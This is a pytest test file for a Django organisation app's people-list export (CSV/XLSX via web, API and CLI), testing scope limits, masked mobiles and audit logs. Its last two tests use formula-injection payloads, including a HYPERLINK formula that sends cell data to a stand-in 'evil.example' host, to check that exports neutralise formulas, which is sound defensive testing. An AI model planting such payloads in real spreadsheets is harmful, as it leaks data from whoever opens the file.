"""Export of a filtered, scoped list: CSV and XLSX, web, API and CLI; masked mobiles; audited."""

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from sangathan.access.models import AuditLog
from sangathan.access.scope import Scope, scope_for_user
from sangathan.org.enums import Grant
from sangathan.org.models import Post
from sangathan.org.services import position_assign
from sangathan.people.exports import ExportSpec, export_rows
from sangathan.people.models import Person
from sangathan.people.services import person_create
from tests.api_client import ApiClient
from tests.factories import PersonFactory, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def ram(tree):
    return person_create(scope=Scope.system(), name="राम खंडेलवाल", mobile="9826012345", unit=tree["d1a1b1"])


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def streamed(response) -> bytes:
    return b"".join(response.streaming_content)


def test_web_csv_is_the_filtered_scoped_list_and_is_audited(tree, ram, client):
    client.force_login(tree.users["district_president"])
    response = client.get("/people/export.csv", {"q": "khandelwal"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert not AuditLog.objects.filter(action=AuditLog.Action.EXPORT).exists()  # written when the stream ends
    rows = read_csv(streamed(response))
    assert len(rows) == 2 and rows[1][1] == "राम खंडेलवाल" and rows[1][7] == "98260 12345"
    audit = AuditLog.objects.get(action=AuditLog.Action.EXPORT)
    assert audit.actor == tree.users["district_president"] and audit.channel == "web"
    assert audit.detail == {"what": "people", "format": "csv", "filters": {"q": "khandelwal"}, "rows": 1}


def test_xlsx_in_web_and_api(tree, ram, client):
    client.force_login(tree.users["district_president"])
    response = client.get("/people/export.xlsx", {"unit": tree["d1a1b1"].pk})
    workbook = load_workbook(io.BytesIO(streamed(response)), read_only=True)
    rows = list(workbook.active.values)
    expected = Person.objects.filter(unit_path__startswith=tree["d1a1b1"].path).count()
    assert len(rows) == expected + 1 and "राम खंडेलवाल" in [row[1] for row in rows]
    api = ApiClient.login(tree.users["district_president"])
    api_response = api.get("/people/export", {"format": "xlsx", "q": "9826012345"})
    assert api_response.status_code == 200
    assert len(list(load_workbook(io.BytesIO(streamed(api_response)), read_only=True).active.values)) == 2
    assert api.get("/people/export", {"format": "pdf"}).status_code == 422
    assert api.get("/people/export", {"unit": tree["d2"].pk}).status_code == 404
    assert AuditLog.objects.filter(action=AuditLog.Action.EXPORT, channel="api").count() == 1


def test_read_only_readers_get_masked_mobiles(tree, ram):
    observer = PersonFactory(unit=tree["d1"])
    position_assign(scope=Scope.system(), person=observer, post=Post.objects.get(code="vice_president"), unit=tree["d1"])
    assert Post.objects.get(code="vice_president").grant == Grant.READ
    scope = scope_for_user(make_user(observer))
    rows = list(export_rows(ExportSpec(scope=scope, filters={"q": "khandelwal"})))
    assert rows[1][7] == "98xxxxxx45"
    api = ApiClient.login(make_user(PersonFactory(unit=tree["d1"])) if False else tree.users["district_president"])
    [item] = api.get("/people", {"q": "khandelwal"}).json()["items"]
    assert item["mobile"] == "+919826012345" and item["mobile_masked"] is False


@pytest.mark.parametrize("user, expected", [("booth_president", 1), ("mandal_president", 1),
                                            ("district_president", 1), ("nobody", 0)])
def test_export_never_leaves_the_scope(tree, ram, user, expected):
    person_create(scope=Scope.system(), name="राम खंडेलवाल", mobile="9826012399", unit=tree["d2a1b1"])
    scope = scope_for_user(tree.users[user])
    rows = list(export_rows(ExportSpec(scope=scope, filters={"q": "khandelwal"})))
    assert len(rows) - 1 == expected


def test_cli_export(tree, ram, tmp_path, capsys):
    out = tmp_path / "people.csv"
    call_command("export", "people", "--format", "csv", "--unit", "D1A1B1", "--q", "9826012345", "--out", str(out))
    rows = read_csv(out.read_bytes())
    assert [row[1] for row in rows[1:]] == ["राम खंडेलवाल"]
    assert "Exported 1 people" in capsys.readouterr().out
    xlsx = tmp_path / "people.xlsx"
    call_command("export", "people", "--format", "xlsx", "--as", tree.users["booth_president"].mobile,
                 "--out", str(xlsx))
    names = [row[1] for row in load_workbook(xlsx, read_only=True).active.values][1:]
    assert "राम खंडेलवाल" in names and len(names) == Person.objects.filter(
        unit_path__startswith=tree["d1a1b1"].path).count()
    audits = AuditLog.objects.filter(action=AuditLog.Action.EXPORT, channel="cli").order_by("id")
    assert [a.actor for a in audits] == [None, tree.users["booth_president"]]
    with pytest.raises(CommandError):
        call_command("export", "people", "--unit", "D2", "--as", tree.users["booth_president"].mobile,
                     "--out", str(out))
    with pytest.raises(CommandError):
        call_command("export", "people", "--as", "9000000000", "--out", str(out))
    with pytest.raises(CommandError):
        call_command("export", "people", "--out", str(tmp_path / "missing" / "dir" / "x.csv"))


HYPERLINK = '=HYPERLINK("http://evil.example?"&A1,"click")'


def test_exports_never_carry_a_live_formula(tree, ram, client):
    Person.objects.filter(pk=ram.pk).update(name=HYPERLINK, relative_name="@SUM(A1)", name_latin="khandelwal")
    client.force_login(tree.users["district_president"])
    rows = read_csv(streamed(client.get("/people/export.csv", {"q": "khandelwal"})))
    assert rows[1][1] == "'" + HYPERLINK and rows[1][3] == "'@SUM(A1)" and rows[1][7] == "98260 12345"
    content = streamed(client.get("/people/export.xlsx", {"q": "khandelwal"}))
    cells = list(load_workbook(io.BytesIO(content)).active.iter_rows())[1]
    assert (cells[1].value, cells[1].data_type) == (HYPERLINK, "s")
    assert b"<f>" not in __import__("zipfile").ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_a_persons_data_file_neutralizes_formulas(tree, ram, client):
    Person.objects.filter(pk=ram.pk).update(occupation="-1+cmd")
    client.force_login(tree.users["state_admin"])
    text = client.get(f"/people/{ram.pk}/data.csv").content.decode("utf-8-sig")
    assert "record,1,occupation,'-1+cmd" in text.splitlines()
